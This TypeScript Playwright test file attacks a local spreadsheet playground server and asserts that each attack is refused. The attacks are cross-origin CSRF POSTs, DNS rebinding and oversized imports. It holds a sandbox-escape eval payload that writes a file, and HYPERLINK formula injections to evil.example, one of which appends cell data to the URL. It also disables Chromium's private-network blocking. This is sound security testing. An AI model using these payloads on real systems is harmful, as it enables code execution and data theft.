/**
 * Issue 11's attacks on the running playground, from a real Chromium page on another origin (a
 * second server on another port), from a DNS-rebinding page (Chromium resolving rebind.test to
 * 127.0.0.1), and hostile files through the real import UI. Each attack must reach the server (its
 * refusal is in the server's log), fail, and leave the workbook as it was: read back through the
 * API as the page reads it, and byte for byte in the saved file.
 */
import { createServer, Server } from 'node:http';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Browser } from 'playwright-core';
import { launch } from '../helpers/browser';
import { xlsx } from '../playground/xlsx-fixture';
import {
  buildPlayground,
  pageToken,
  PlaygroundServer,
  sheetCells,
  startServer,
  stopServer,
  workbookSnapshot,
} from './playground-server';

let dir: string;
let dataFile: string;
let playground: PlaygroundServer;
let attacker: Server;
let attackerUrl: string;
let browser: Browser;

/** 250,000 fields in one row (0.6 MB), and a 100 KB XLSX with a cell in column XFD on every row. */
const wideCsv = `Deal,Stage\n${'xx,'.repeat(200_000)}${','.repeat(50_000)}\n`;
const xfdXlsx = xlsx(
  `<row r="1"><c r="A1" t="inlineStr"><is><t>Deal</t></is></c><c r="B1" t="inlineStr"><is><t>Stage</t></is></c></row>${Array.from({ length: 3_000 }, (_, i) => `<row r="${i + 2}"><c r="XFD${i + 2}"><v>1</v></c></row>`).join('')}`,
);

beforeAll(async () => {
  buildPlayground();
  dir = mkdtempSync(join(tmpdir(), 'playground-attack-'));
  dataFile = join(dir, 'workbook.json');
  playground = await startServer(dataFile);
  attacker = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end('<!DOCTYPE html><title>A page the user happens to visit</title><body></body>');
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
  browser = await launch([
    '--host-resolver-rules=MAP rebind.test 127.0.0.1',
    // Chromium itself blocks a public page's requests to loopback (Private/Local Network Access); Firefox,
    // Safari and older browsers do not. Turned off so the attack reaches the server, whose own checks are tested.
    '--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessRespectPreflightResults,PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks',
  ]);
});
afterAll(async () => {
  await browser?.close();
  await new Promise<void>((r) => attacker.close(() => r()));
  await stopServer(playground);
  rmSync(dir, { recursive: true, force: true });
});

/** Waits until the server has logged `count` more refusals than `before`. */
async function refusalsAfter(before: number, count: number): Promise<string[]> {
  const lines = (): string[] =>
    playground
      .log()
      .split('\n')
      .filter((l) => l.startsWith('playground: refused'));
  for (let i = 0; i < 100 && lines().length < before + count; i++) await new Promise((r) => setTimeout(r, 50));
  return lines().slice(before);
}
const refusalCount = (): number =>
  playground
    .log()
    .split('\n')
    .filter((l) => l.startsWith('playground: refused')).length;

test('a page on another origin: no-cors text/plain POSTs of eval, reset, import and edit, a CORS try with a guessed token, a form POST, oversized uploads, and API reads all fail and change nothing', async () => {
  const snapshot = await workbookSnapshot(playground);
  const savedBefore = readFileSync(dataFile, 'utf8');
  const marker = join(dir, 'pwned');
  const before = refusalCount();
  const page = await browser.newPage();
  await page.goto(attackerUrl);
  expect(new URL(page.url()).port).not.toBe(String(playground.port));

  const targets = [`http://127.0.0.1:${playground.port}`, `http://localhost:${playground.port}`];
  const payload = `SpreadsheetApp.constructor.constructor('return process')().mainModule.require('fs').writeFileSync(${JSON.stringify(marker)}, 'x')`;
  const results = await page.evaluate(
    async ({ targets, payload, csv, wide, xfd }) => {
      const out: string[] = [];
      const noCors = async (url: string, body: string): Promise<void> => {
        try {
          await fetch(url, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body });
          out.push(`sent ${url}`);
        } catch (e) {
          out.push(`failed ${url}: ${String(e)}`);
        }
      };
      for (const base of targets) {
        await noCors(`${base}/api/run`, JSON.stringify({ fn: 'eval', args: [payload] }));
        await noCors(`${base}/api/reset`, '{}');
        await noCors(`${base}/api/import`, JSON.stringify({ name: 'evil.csv', formulas: true, content: btoa(csv) }));
        await noCors(
          `${base}/api/edit`,
          JSON.stringify({ sheet: 'Deals', row: 2, col: 2, value: '=HYPERLINK("http://evil.example","pwned")' }),
        );
        await noCors(`${base}/api/import`, JSON.stringify({ name: 'wide.csv', formulas: false, content: btoa(wide) }));
        await noCors(`${base}/api/import`, JSON.stringify({ name: 'xfd.xlsx', formulas: false, content: xfd }));
        // A CORS request with JSON and a guessed token needs a preflight the server never grants.
        try {
          await fetch(`${base}/api/reset`, {
            method: 'POST',
            headers: { 'content-type': 'application/json', 'x-playground-token': '0'.repeat(64) },
            body: '{}',
          });
          out.push('cors reset went through');
        } catch {
          out.push('cors reset blocked');
        }
        // Reading the API (the token is not in it, but the workbook is) is blocked too.
        try {
          const r = await fetch(`${base}/api/state`);
          out.push(`read state: ${r.status} ${await r.text()}`);
        } catch {
          out.push('read state blocked');
        }
      }
      // A classic form POST (enctype text/plain makes a JSON-looking body), into a hidden frame.
      const frame = document.createElement('iframe');
      frame.name = 'sink';
      document.body.append(frame);
      const form = document.createElement('form');
      form.method = 'POST';
      form.enctype = 'text/plain';
      form.action = `${targets[0]}/api/reset`;
      form.target = 'sink';
      const field = document.createElement('input');
      field.name = '{"a":"';
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      await new Promise<void>((resolve) => {
        frame.onload = () => resolve();
        form.submit();
      });
      out.push('form posted');
      return out;
    },
    {
      targets,
      payload,
      csv: 'Deal,Stage\n=HYPERLINK("http://evil.example"),Lead\n',
      wide: wideCsv,
      xfd: xfdXlsx.toString('base64'),
    },
  );

  expect(results.filter((r) => r.startsWith('sent'))).toHaveLength(12);
  expect(results.filter((r) => r === 'cors reset blocked')).toHaveLength(2);
  expect(results.filter((r) => r === 'read state blocked')).toHaveLength(2);
  expect(results).toContain('form posted');
  // 12 no-cors POSTs, 2 preflights (OPTIONS), 2 reads, 1 form: every one reached the server and was refused.
  const refused = await refusalsAfter(before, 17);
  for (const path of ['/api/run', '/api/reset', '/api/import', '/api/edit', '/api/state'])
    expect(refused.some((l) => l.includes(` ${path} `))).toBe(true);
  expect(
    refused.filter((l) => / POST .*Origin http:\/\/127\.0\.0\.1:\d+\)/.test(l) && !l.includes(`:${playground.port})`)),
  ).toHaveLength(13);
  expect(refused.filter((l) => l.startsWith('playground: refused OPTIONS'))).toHaveLength(2);
  expect(refused.filter((l) => l.startsWith('playground: refused GET /api/state'))).toHaveLength(2);

  expect(existsSync(marker)).toBe(false);
  expect(await workbookSnapshot(playground)).toBe(snapshot);
  expect(readFileSync(dataFile, 'utf8')).toBe(savedBefore);
  await page.close();
});

test('DNS rebinding: a page loaded as rebind.test:<our port> (then resolving to 127.0.0.1) cannot read the token or change anything', async () => {
  const snapshot = await workbookSnapshot(playground);
  const savedBefore = readFileSync(dataFile, 'utf8');
  const before = refusalCount();
  const page = await browser.newPage();
  const origin = `http://rebind.test:${playground.port}`;
  // The first load comes from the attacker's server (before the rebinding): served here by routing.
  await page.route(`${origin}/start`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!DOCTYPE html><title>rebinding</title>' }),
  );
  await page.goto(`${origin}/start`);
  await page.unroute(`${origin}/start`);
  const results = await page.evaluate(async () => {
    // Same origin as far as the browser knows: it may read whatever the server answers.
    const home = await fetch('/');
    const html = await home.text();
    const state = await fetch('/api/state');
    const reset = await fetch('/api/reset', {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-playground-token': (/content="([0-9a-f]{64})"/.exec(html) ?? [])[1] ?? '',
      },
      body: '{}',
    });
    return { home: home.status, html, state: state.status, reset: reset.status };
  });
  expect({ home: results.home, state: results.state, reset: results.reset }).toEqual({
    home: 403,
    state: 403,
    reset: 403,
  });
  expect(results.html).not.toContain(await pageToken(playground));
  // (The browser may also ask for /favicon.ico under that name: refused the same way.)
  const refused = await refusalsAfter(before, 3);
  for (const request of ['GET /', 'GET /api/state', 'POST /api/reset']) {
    expect(
      refused.filter((l) => l.startsWith(`playground: refused ${request} (Host rebind.test:${playground.port},`)),
    ).toHaveLength(1);
  }
  expect(refused.every((l) => l.includes(`Host rebind.test:${playground.port}`))).toBe(true);
  expect(await workbookSnapshot(playground)).toBe(snapshot);
  expect(readFileSync(dataFile, 'utf8')).toBe(savedBefore);
  await page.close();
});

test('through the real import UI: a 250,000-field CSV row and an XLSX with cells in column XFD get a clear message and change nothing; "=" text lands as text unless "formulas" is ticked', async () => {
  const snapshot = await workbookSnapshot(playground);
  const savedBefore = readFileSync(dataFile, 'utf8');
  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(playground.url);
  await page.waitForSelector('.grid td[data-r="2"]');
  const importFile = async (name: string, buffer: Buffer, formulas = false): Promise<number> => {
    await page.click('#file');
    await page.setChecked('#import-formulas', formulas);
    const started = Date.now();
    await page.setInputFiles('#import', { name, mimeType: 'application/octet-stream', buffer });
    await page.waitForSelector('#dialog:not([hidden]), #toast:not([hidden])');
    return Date.now() - started;
  };
  const dialogText = async (): Promise<string> => {
    const text = (await page.textContent('#dialog-text')) ?? '';
    await page.click('#dialog-ok');
    return text;
  };

  const wideMs = await importFile('wide.csv', Buffer.from(wideCsv));
  expect(await dialogText()).toMatch(
    /^Nothing was imported: wide\.csv has a value in cell CW2 \(column 101\); the playground imports up to 100 columns/,
  );
  const xfdMs = await importFile('xfd.xlsx', xfdXlsx);
  expect(await dialogText()).toMatch(/^Nothing was imported: xfd\.xlsx has a value in cell XFD2 \(column 16,384\)/);
  expect(await workbookSnapshot(playground)).toBe(snapshot);
  expect(readFileSync(dataFile, 'utf8')).toBe(savedBefore);
  console.log(`refused through the UI: 250,000-field CSV row in ${wideMs} ms, XFD XLSX in ${xfdMs} ms`);

  const hostile = '=HYPERLINK("http://evil.example/?"&C2,"Acme")';
  const csv = `Deal,Stage,Value\n"${hostile.replace(/"/g, '""')}",Proposal,1000\n`;
  const imported = async (): Promise<void> => {
    // Setting up the imported deals reports what it did in dialogs; then the toast says how many came in.
    while (!(await page.isVisible('#toast'))) {
      if (await page.isVisible('#dialog')) expect(await dialogText()).not.toMatch(/Nothing was imported|Error/);
      else await page.waitForSelector('#dialog:not([hidden]), #toast:not([hidden])');
    }
    expect(await page.textContent('#toast')).toBe('Imported 1 deals from hostile.csv.');
  };
  await importFile('hostile.csv', Buffer.from(csv));
  await imported();
  let deals = await sheetCells(playground, 'Deals');
  let col = (deals[0] ?? []).findIndex((c) => c.t === 'Deal');
  expect({ t: deals[1]?.[col]?.t, f: deals[1]?.[col]?.f }).toEqual({ t: hostile, f: undefined });

  await page.waitForSelector('#toast', { state: 'hidden' });
  await importFile('hostile.csv', Buffer.from(csv), true);
  await imported();
  deals = await sheetCells(playground, 'Deals');
  col = (deals[0] ?? []).findIndex((c) => c.t === 'Deal');
  expect(deals[1]?.[col]?.f).toBe(hostile);
  expect(errors).toEqual([]);
  await page.close();
});
